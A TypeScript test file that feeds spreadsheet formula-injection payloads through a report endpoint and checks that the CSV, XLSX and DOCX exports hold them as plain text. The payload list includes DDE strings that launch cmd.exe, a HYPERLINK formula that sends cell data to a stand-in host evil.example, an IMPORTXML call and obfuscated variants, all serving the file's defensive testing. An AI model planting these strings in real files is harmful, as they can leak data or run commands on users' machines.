/** Texts that spreadsheet programs would run, through POST /v1/reports into every format that such a program, or Word, opens. */
import ExcelJS from "exceljs";
import { unzipSync } from "fflate";
import { beforeAll, describe, expect, it } from "vitest";
import type { ReportMade } from "#core/gateway/messages";
import { createReport } from "#lambdas/report/report";
import { remindedWorkbook } from "#test/fakes/reminded-workbook";
import { fakeServices } from "#test/fakes/services";
import { callerEvent, ID, lambdaContext, NOW, QUIET, REGISTRATION, told } from "#test/unit/lambdas/harness";

const RUNS = [
  `=HYPERLINK("https://evil.example?"&A1,"เปิด")`,
  "=cmd|'/C calc'!A1",
  "+cmd|'/C calc'!A1",
  "-2+3+cmd|'/C calc'!A1",
  "@SUM(1+1)*cmd|'/C calc'!A1",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  " \u200b=1+1",
  "＝1+1",
  '","=1+1","',
  '=IMPORTXML("https://evil.example","//a")',
  '{DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"}',
  "_x003D_1+1",
];

/** Each project, unit and title is one of them. */
function workbook() {
  const book = remindedWorkbook();
  const [project] = book.plan.projects;
  const projects = RUNS.map((text, index) => ({
    ...project,
    ...{
      id: `p${index}`,
      number: text,
      name: text,
      localName: text,
      remark: text,
      subMission: text,
      responsibleUnits: [text],
      budgets: { "2570": { raw: text } },
    },
  }));
  const followUp = projects.map(({ id }, index) => ({
    ...{
      project: id,
      fiscalYear: 2570,
      round: "q1",
      planned: true,
      state: { raw: String(RUNS[index]) },
      amounts: { plan: null, ordinance: null, disbursed: null },
    },
    ...{
      result: RUNS[index],
      problemAndRemedy: RUNS[index],
      reason: RUNS[index],
      evidence: RUNS[index],
      reportedOn: null,
      reportedBy: RUNS[index],
    },
  }));
  const units = RUNS.map((name) => ({ name, contact: name, emails: [name], headEmails: [], active: true }));
  return { ...book, plan: { ...book.plan, title: RUNS[0], organization: { name: RUNS[1] }, projects }, followUp, units };
}

async function reportOf(kind: string, format: string): Promise<Buffer> {
  const services = fakeServices(() => NOW);
  services.state.registrations.set(ID, { ...REGISTRATION });
  const handler = createReport({ ...services, newKey: () => "k", clock: () => NOW, log: QUIET });
  const isData = kind === "data";
  const isOfPlan = isData || kind === "five-year";
  const report = { kind, format, fiscalYear: isOfPlan ? null : 2570, round: isOfPlan ? null : "q1", errors: 0 };
  const { status, body } = told(
    await handler(callerEvent("POST /v1/reports", { json: { spreadsheetId: ID, report, workbook: workbook() } }), lambdaContext()),
  );
  expect(status, JSON.stringify(body)).toBe(200);
  return Buffer.from((body as ReportMade).base64 ?? "", "base64");
}

describe("CSV", () => {
  it("begins no field like a formula, after quotes and spaces are gone as well", async () => {
    const text = (await reportOf("data", "csv")).toString("utf8").replace(/^\ufeff/, "");
    const fields = [...text.matchAll(/(?:^|,|\r\n)("(?:[^"]|"")*"|[^",\r\n]*)/g)].map(([, field = ""]) => field.replace(/^"|"$/g, ""));
    expect(fields.filter((field) => field.includes("cmd|")).length).toBeGreaterThan(3);
    expect(fields.filter((field) => /^[\s\u200b]*[=+\-@＝]/.test(field) && !/^-?[\d.]+$/.test(field))).toEqual([]);
  });
});

describe.each(["five-year", "progress"])("XLSX of %s", (kind) => {
  let bytes: Buffer;
  beforeAll(async () => {
    bytes = await reportOf(kind, "xlsx");
  });

  it("has texts where texts were typed: no formula, no link but to the web, nothing outside", async () => {
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(bytes as unknown as ArrayBuffer);
    const cells: ExcelJS.Cell[] = [];
    book.eachSheet((sheet) => sheet.eachRow((row) => row.eachCell((cell) => void cells.push(cell))));
    expect(cells.filter(({ value }) => String(value).includes("cmd|")).length).toBeGreaterThan(2);
    expect(cells.filter(({ type, formula }) => type === ExcelJS.ValueType.Formula || formula).map(({ address }) => address)).toEqual([]);
    expect(cells.flatMap(({ hyperlink }) => hyperlink ?? []).filter((link) => !/^https?:/.test(link))).toEqual([]);
    const parts = Object.entries(unzipSync(bytes));
    expect(parts.map(([name]) => name).filter((name) => /externalLink|vba|macro|connections|activeX|embeddings/i.test(name))).toEqual([]);
    expect(
      parts.filter(([name, part]) => /^xl\/worksheets\/[^/]+\.xml$/.test(name) && /<f[ >]/.test(Buffer.from(part).toString("utf8"))),
    ).toEqual([]);
  });

  it("stays text where somebody edits the cell afterwards", async () => {
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(bytes as unknown as ArrayBuffer);
    const alike: ExcelJS.Cell[] = [];
    book.eachSheet((sheet) =>
      sheet.eachRow((row) =>
        row.eachCell((cell) => void (typeof cell.value === "string" && /^\s*[=+\-@]\S/.test(cell.value) && alike.push(cell))),
      ),
    );
    expect(alike.length).toBeGreaterThan(2);
    expect(alike.filter(({ numFmt }) => numFmt !== "@").map(({ address }) => address)).toEqual([]);
  });
});

describe.each(["five-year", "progress"])("DOCX of %s", (kind) => {
  it("has no field but page numbers, and leads to nothing but the web", async () => {
    const parts = Object.entries(unzipSync(await reportOf(kind, "docx"))).map(([name, part]) => ({
      name,
      text: Buffer.from(part).toString("utf8"),
    }));
    const fields = parts.flatMap(({ text }) =>
      [...text.matchAll(/<w:instrText[^>]*>([^<]*)|<w:fldSimple[^>]*w:instr="([^"]*)"/g)].map(([, long, short]) =>
        (long ?? short ?? "").trim(),
      ),
    );
    expect(fields.filter((field) => !/^(?:PAGE|NUMPAGES|SECTIONPAGES)\b/.test(field))).toEqual([]);
    const outside = parts
      .filter(({ name }) => name.endsWith(".rels"))
      .flatMap(({ text }) => [...text.matchAll(/<Relationship [^>]*TargetMode="External"[^>]*>/g)].map(([link]) => link));
    expect(outside.filter((link) => !/Target="https?:/.test(link) || !/relationships\/hyperlink"/.test(link))).toEqual([]);
    expect(parts.map(({ name }) => name).filter((name) => /vba|macro|activeX|attachedTemplate/i.test(name))).toEqual([]);
  });
});
